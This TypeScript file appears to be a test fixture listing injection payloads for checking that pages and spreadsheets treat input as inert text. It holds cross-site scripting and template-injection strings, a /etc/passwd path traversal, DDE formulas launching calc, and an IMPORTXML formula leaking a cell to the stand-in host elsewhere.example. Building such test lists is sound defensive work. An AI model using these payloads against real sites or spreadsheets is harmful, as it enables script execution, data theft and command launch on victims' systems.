/** Texts that would run, load or calculate something if any page or spreadsheet took them for more than text. */
const calls = ['ran()', 'alert(1)', 'window.ran&&ran()']

const elements = calls.flatMap((call) => [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onerror="${call}">`,
  `'><img src=x onerror='${call}'>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<math><mtext></mtext><img src=x onerror=${call}></math>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<a href="javascript:${call}">press me</a>`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `data:text/html,<script>${call}</script>`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `<style>@import 'javascript:${call}'</style>`,
  `<div style="background:url(javascript:${call})">x</div>`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<object data="javascript:${call}"></object>`,
])

const loads = [
  '<img src="https://elsewhere.example/seen.png">',
  '<link rel=stylesheet href="https://elsewhere.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example">',
  '<base href="https://elsewhere.example/">',
  '![x](https://elsewhere.example/seen.png)',
  '[press](javascript:ran())',
  '<!--<img src="--><img src=x onerror=ran()//">',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '\u202e<script>ran()</script>',
  '<scr\u0000ipt>ran()</script>'.replace('\u0000', ''),
  '&lt;script&gt;ran()&lt;/script&gt;',
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
]

/** What a spreadsheet would calculate. */
export const formulas = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.example","press")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://elsewhere.example/?",A1),"//a")',
]

export const payloads: readonly string[] = [...elements, ...loads, ...formulas]
